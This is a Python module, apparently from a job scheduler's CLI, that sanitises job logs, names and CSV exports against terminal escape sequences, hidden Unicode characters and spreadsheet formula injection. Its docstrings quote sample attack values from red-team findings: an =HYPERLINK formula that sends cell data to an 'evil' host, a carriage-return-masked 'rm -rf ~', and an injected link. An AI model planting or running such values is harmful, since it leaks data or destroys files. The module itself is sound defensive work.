"""Text a job wrote, made safe to show on a terminal (red team 6).

A log is whatever the job wrote, and whoever reads it — its owner, or an admin reading another
user's log — gets it on their terminal; a failed job's message quotes its log's last lines (or the
notebook runner's ``outcome.json``, a file its owner can write), and ``jupyter-sched jobs --all``
and ``wait`` print it. Escape sequences there are commands to the terminal, not
text: they can retitle the window, rewrite the screen, hide lines, write the clipboard (OSC 52) or
make a link say one thing and open another. :func:`printable_log` keeps the text and drops or shows
the commands (:func:`printable_line` also turns newlines and tabs into spaces and bounds the length,
for one-line messages):

- kept: printable text (any language), newline, tab; ``\\r\\n`` becomes ``\\n``;
- dropped: well-formed CSI sequences (colours, cursor moves: ``ESC [ … final``) and OSC / DCS /
  APC / PM / SOS strings (titles, hyperlinks, clipboard: ``ESC ] … BEL`` or ``… ESC \\``);
- shown, never obeyed: any other control character, as ``^X`` (``^[`` for a stray ESC, ``^?`` for
  DEL), a C1 control as ``<U+009B>``, a bidirectional override as ``<U+202E>``, a Unicode line or
  paragraph separator as ``<U+2028>`` / ``<U+2029>`` (red27 R3); a carriage return
  alone (which lets a line overwrite what was printed before it) becomes a newline;
- a progress bar's updates (tqdm, keras: ``\\r 5%|▌ | 1/20``, ``\\r10%|█ | 2/20`` …) are shown as the line's
  last state, as a terminal shows them (new user 27, N4: each update was a line of its own, so ``logs``
  was a wall of bar states and ``--tail 2`` printed all of them): a state rewritten by the next one is
  left out only when the two differ in no letter (digits, spaces, signs and bar blocks alone), so a
  carriage return still cannot hide a line of words (red team 6: ``rm -rf ~\\rall good`` stays two lines).

``jupyter-sched logs --raw`` prints the log as written, for a reader who wants the bytes.
Only the standard library is imported: the notebook runner and the executors use it.
A sequence split across two chunks of a followed log is not recognised whole; its ESC is then
shown as ``^[`` and the rest printed as text, which is safe.
"""

from __future__ import annotations

import math
import re
from collections.abc import Iterable, Sequence
from typing import Any

__all__ = ["CONTROL_CHARACTER", "FORMULA_START", "FollowedLine", "chart_label", "csv_text", "escaped_controls", "escaped_line", "printable_line",
           "printable_log", "printable_name", "rewritten_line", "spreadsheet_cell"]

# ESC [ params intermediates final  |  ESC ] / P / X / ^ / _ … terminated by BEL or ESC \ (or left open)
_SEQUENCE = re.compile(r"\x1b\[[0-?]*[ -/]*[@-~]|\x1b[\]PX^_][^\x07\x1b]*(?:\x07|\x1b\\|$)")
_BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
_BREAKS = "\u2028\u2029"
"""Unicode's line and paragraph separators: not controls, yet line ends to ``str.splitlines()``, JSON/JS log
viewers and log shippers — one in a log line forged a line of its own there (red27 R3). The other line breaks
those readers honour (``\\x0b`` ``\\x0c`` ``\\x1c``-``\\x1e`` ``\\x85``) are C0/C1 controls, already below."""
_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f" + _BIDI + _BREAKS + "]")
_INVISIBLE = "\u00ad\u061c\u180e\u200b-\u200f\u2060-\u2064\ufeff"
"""Format characters drawn as nothing (soft hyphen, Arabic letter mark, Mongolian vowel separator, zero-width space,
non-joiner and joiner, left-to-right and right-to-left marks, word joiner, invisible operators, byte-order mark): a
name ending in U+200B prints exactly as the name without it (red29 R2). :func:`escaped_controls` escapes them too;
a job's log keeps them (a joiner inside an emoji)."""
_ESCAPED = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f" + _BIDI + _BREAKS + _INVISIBLE + "]")
CONTROL_CHARACTER = re.compile(r"[\x00-\x1f\x7f-\x9f]")
"""C0 and C1 control characters and DEL: no id, name, state or cursor of the API holds one (red team 20, R3)."""


def _shown(match: re.Match[str]) -> str:
    char = match.group()
    code = ord(char)
    if char == "\r":
        return "\n"
    if code < 0x20:
        return "^" + chr(code + 0x40)
    if code == 0x7F:
        return "^?"
    return f"<U+{code:04X}>"


def printable_log(text: str, *, line_start: bool = False) -> str:
    """``text`` with terminal control sequences dropped or shown and progress updates as their last
    state (see the module docstring). ``line_start``: ``text`` begins a line of the log (else its first
    ``\\r`` may rewrite a line shown before it, and becomes a newline)."""
    text = _SEQUENCE.sub("", text.replace("\r\n", "\n"))
    if "\r" in text:
        text = "\n".join(_last_states(line, first=i == 0 and not line_start)
                         for i, line in enumerate(text.split("\n")))
    return _CONTROL.sub(_shown, text)


class FollowedLine:
    """What a followed log (``logs -f``) has shown of its unfinished last line, for :meth:`shown` of the next chunk.

    On a terminal, a progress bar's redraw (``\\r`` and a state differing from the one on screen in no letter: digits,
    spaces, signs and bar blocks alone) is passed as ``\\r``, so the terminal redraws the line in place, as
    ``kubectl logs -f`` shows it (newuser40 n11: every redraw became a line — ~36,000 lines for an hour of a 10 Hz
    tqdm bar). Anywhere else, and for any ``\\r`` that would replace words, the state goes on a line of its own, as
    :func:`printable_log` says (red team 6: ``rm -rf ~\\rall good`` stays two lines). A ``\\r`` ending a chunk is
    held for the next one."""

    def __init__(self, *, terminal: bool) -> None:
        self.terminal = terminal
        self.on_screen = ""  # the state of the unfinished line as shown (without controls)
        self.carriage = False  # the last chunk ended with a \r not yet applied

    def shown(self, text: str) -> str:
        """``text`` (the next chunk) as printed after what was shown before."""
        text = _SEQUENCE.sub("", text.replace("\r\n", "\n"))
        out: list[str] = []
        for i, line in enumerate(text.split("\n")):
            if i:
                out.append("\n")
                self.on_screen, self.carriage = "", False
            states = line.split("\r")
            for j, state in enumerate(states):
                rewrite = self.carriage if j == 0 else True
                later = next((s for s in states[j + 1:] if s), None)
                if rewrite and state and later is not None and _NOT_LETTERS.sub("", state) == _NOT_LETTERS.sub("", later):
                    continue  # redrawn again within this chunk: only its last state is shown (new user 27, N4)
                if j > 0 and j == len(states) - 1 and not state:
                    self.carriage = True  # a trailing \r: its state comes in the next chunk
                    continue
                if not state:
                    continue
                if not rewrite:
                    out.append(_CONTROL.sub(_shown, state))
                    self.on_screen += state
                elif self.terminal and self.on_screen and \
                        _NOT_LETTERS.sub("", self.on_screen) == _NOT_LETTERS.sub("", state):
                    out.append("\r" + _CONTROL.sub(_shown, state))
                    self.on_screen = state
                else:
                    out.append(("\n" if self.on_screen else "") + _CONTROL.sub(_shown, state))
                    self.on_screen = state
                self.carriage = False
        return "".join(out)


def rewritten_line(line: str) -> str:
    """One line of a log (no newline; it may be unfinished) with the ``\\r`` states :func:`printable_log`
    would leave out taken away and its ``\\r`` kept: what a reader holds of a long progress line read in
    slices (its last state is always kept, so the next slice goes on with it)."""
    return _last_states(line, first=False) if "\r" in line else line


_NOT_LETTERS = re.compile(r"[^\w]|[\d_]")


def _last_states(line: str, *, first: bool) -> str:
    """``line``'s ``\\r``-separated states without those the next state rewrites as a progress update (no
    letter differs: :data:`_NOT_LETTERS` left out) and blank ones; a blank state starting the line only when ``first``
    (a followed chunk's first ``\\r`` may go on a line shown before)."""
    states = line.split("\r")
    kept: list[str] = []
    for i, state in enumerate(states):
        later = next((s for s in states[i + 1:] if s), None)
        if later is not None and (_NOT_LETTERS.sub("", state) == _NOT_LETTERS.sub("", later) if state.strip()
                                  else i > 0 or not first):
            continue
        kept.append(state)
    return "\r".join(kept)


def printable_line(text: str, *, limit: int = 2000) -> str:
    """``text`` as :func:`printable_log` shows it, on one line (newlines and tabs become spaces) and
    at most ``limit`` characters (``…`` marks a cut)."""
    line = " ".join(printable_log(text).replace("\t", " ").split("\n"))
    return line if len(line) <= limit else line[:limit - 1] + "…"


_HIDDEN_IN_NAME = re.compile("[" + _INVISIBLE + "]")


def printable_name(text: str, *, limit: int = 2000) -> str:
    """A name (a job's, its preemptor's, a lease's notebook) as a line of the CLI or the magics says it:
    :func:`printable_line`, and the format characters drawn as nothing shown too (``train<U+200B>``), which a log
    keeps (a joiner inside an emoji) but a name may not hide (s30: ``status`` said ``job j-1 (train)`` for a job
    named ``train\\u200b``, red29 R2's rule for the tables only)."""
    return _HIDDEN_IN_NAME.sub(_shown, printable_line(text, limit=limit))


def escaped_line(text: str) -> str:
    """``text`` on one line as :func:`escaped_controls` writes it, newline and tab escaped too (``\\n``, ``\\t``):
    a stored value (a quarantined row's user, a usage row's team) printed inside a line of ours never forges a line
    of its own, commands the terminal or hides a character (s30: ``jupyter-sched doctor``)."""
    return escaped_controls(text).replace("\n", "\\n").replace("\t", "\\t")


def chart_label(text: str) -> str:
    """A stored name (a team, a user) as a plotly label shows it: plotly reads ``<a href=…>``, ``<b>``, ``<br>`` in
    trace names, axis ticks and hover text as markup (a team named ``<a href="https://evil">ml</a>`` was a link in the
    admin notebook's usage chart), so ``&`` ``<`` ``>`` are written as the entities plotly shows as those characters,
    and hidden characters as :func:`escaped_controls` writes them (s30)."""
    return escaped_controls(text).replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def escaped_controls(text: str) -> str:
    """``text`` with every control character but newline and tab (and every bidirectional
    override, and U+2028 / U+2029: red27 R3, and every format character drawn as nothing — U+200B and
    the like, :data:`_INVISIBLE`: red29 R2) written as its escape (``\\x1b``, ``\\x0d``, ``\\u202e``,
    ``\\u2028``, ``\\u200b``) and nothing dropped: for
    a log line that must keep every byte a client sent yet never command the terminal of whoever
    tails it (red team 15, R3: ``no node carries node_selector ^[[31mRED…`` in the service log)."""
    if not _ESCAPED.search(text):
        return text
    return _ESCAPED.sub(lambda m: (f"\\x{ord(m.group()):02x}" if ord(m.group()) < 0x100
                                   else f"\\u{ord(m.group()):04x}"), text)


FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
"""What a spreadsheet (Excel, LibreOffice, Google Sheets) reads as the start of a formula in a CSV cell (OWASP
"CSV injection": ``=`` ``+`` ``-`` ``@`` TAB CR; and their full-width forms, which some locales' spreadsheets
turn into the ASCII ones): a name ``=HYPERLINK("http://evil/?"&A1,"ok")`` is a live formula there (s30)."""


def spreadsheet_cell(value: Any) -> Any:
    """``value`` as one cell of a CSV export (:func:`csv_text`): a number (``int``, ``float``, numpy's; not a
    bool) stays the number (a negative cost is not a formula); NaN and None become an empty cell; any other value is
    text — its controls, bidirectional and invisible characters escaped (:func:`escaped_controls`) and, when it then
    begins with a :data:`FORMULA_START` character, a leading apostrophe (OWASP), so the spreadsheet shows it as text
    and never evaluates it. Returns the number, or ``str``."""
    if value is None:
        return ""
    if isinstance(value, bool) or type(value).__name__ == "bool_":
        return str(value)
    import numbers  # here, as csv and io below: the CLI's every call imports this module (issue 20: its start-up)

    if isinstance(value, numbers.Real):  # int, float, Fraction, numpy's integers and floats
        return "" if math.isnan(value) else value
    text = escaped_controls(str(value))
    return "'" + text if text.startswith(FORMULA_START) else text


def csv_text(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> str:
    """The one CSV writer of every export (``usage --csv`` and ``GET usage/report?format=csv``, ``audit --csv``,
    ``simulate --out``'s files): the ``csv`` module's quoting, ``\\n`` line ends, a header row, then ``rows`` with
    each cell as :func:`spreadsheet_cell` writes it (numbers as numbers, text never a formula nor a control)."""
    import csv
    import io

    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow([spreadsheet_cell(name) for name in header])
    writer.writerows([spreadsheet_cell(cell) for cell in row] for row in rows)
    return buffer.getvalue()
